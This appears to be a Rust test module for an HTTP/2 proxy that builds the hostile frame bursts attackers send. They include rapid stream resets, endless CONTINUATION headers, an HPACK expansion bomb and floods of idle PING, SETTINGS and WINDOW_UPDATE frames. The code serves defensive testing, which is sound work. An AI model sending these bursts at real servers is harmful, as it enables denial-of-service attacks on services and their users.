//! What attackers send over HTTP/2, burst after burst of one connection: frames as no library sends them.

use super::frame::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PREFACE, PRIORITY,
    RST_STREAM, frame, head, length, settings, window_update, windows,
};

/// Requests of a burst of those that end at once.
const REQUESTS: u32 = 20;

/// The block of a good `GET` in HPACK, to put more behind.
const GET: &[u8] = b"\x82\x86\x84\x41\x06a.test";

/// The preface, and settings with this window for each stream; the window of the connection grows as far as it may.
pub fn opening(window: u32) -> Vec<u8> {
    let mut out = PREFACE.to_vec();
    windows(&mut out, window);
    out
}

/// A request on `stream`, with or without its end.
pub fn request(out: &mut Vec<u8>, stream: u32, method: &str, path: &str, end: bool) {
    let fields = [
        (":method", method),
        (":scheme", "http"),
        (":authority", "a.test"),
        (":path", path),
    ];
    head(out, stream, &fields, end);
}

/// A connection with so many requests, of which no answer is read.
pub fn requests(window: u32, streams: u32, path: &str) -> Vec<u8> {
    let mut out = opening(window);
    (0..streams).for_each(|number| request(&mut out, number * 2 + 1, "GET", path, true));
    out
}

/// Requests that their client resets.
pub fn resets(round: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for stream in streams(round) {
        request(&mut out, stream, "GET", "/x", true);
        frame(&mut out, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
    }
    out
}

/// Requests that the proxy has to reset.
pub fn resets_of_ours(round: u32) -> Vec<u8> {
    let mut out = Vec::new();
    for stream in streams(round) {
        request(&mut out, stream, "POST", "/hang", false);
        window_update(&mut out, stream, 0);
    }
    out
}

fn streams(round: u32) -> impl Iterator<Item = u32> {
    (0..REQUESTS).map(move |number| (round * REQUESTS + number) * 2 + 1)
}

/// A head that never comes to its end.
pub fn endless_head(round: u32) -> Vec<u8> {
    let mut out = Vec::new();
    if round == 0 {
        frame(&mut out, HEADERS, 0, 1, GET);
    }
    let lines = b"\x00\x01a\x01b".repeat(2000);
    (0..10).for_each(|_| frame(&mut out, CONTINUATION, 0, 1, &lines));
    out
}

/// A little HPACK that stands for much: an entry of the table with a value of so many bytes, and references to it.
pub fn unfolding_head(round: u32, name: &[u8], value: usize, references: usize) -> Vec<u8> {
    let mut block = GET.to_vec();
    block.push(0x40);
    length(&mut block, name.len());
    block.extend(name);
    length(&mut block, value);
    block.extend(vec![b'x'; value]);
    block.extend(vec![0xbe; references]);
    let mut out = Vec::new();
    let flags = END_STREAM | END_HEADERS;
    frame(&mut out, HEADERS, flags, round * 2 + 1, &block);
    out
}

/// Writes a frame.
type Write = fn(&mut Vec<u8>);

/// Frames that say nothing, with their names.
pub const IDLE: [(&str, Write); 6] = [
    ("pings", |out| frame(out, PING, 0, 0, b"01234567")),
    ("settings", |out| settings(out, &[])),
    ("empty data", |out| frame(out, DATA, 0, 1, &[])),
    ("padding", |out| frame(out, DATA, PADDED, 1, &[3, 0, 0, 0])),
    ("priorities", |out| {
        frame(out, PRIORITY, 0, 3, &[0, 0, 0, 0, 1])
    }),
    ("windows", |out| window_update(out, 1, 1)),
];

/// So many of one of them, behind a request that stays open.
pub fn that_say_nothing(round: u32, one: Write, count: usize) -> Vec<u8> {
    let mut out = Vec::new();
    if round == 0 {
        request(&mut out, 1, "POST", "/hang", false);
    }
    (0..count).for_each(|_| one(&mut out));
    out
}
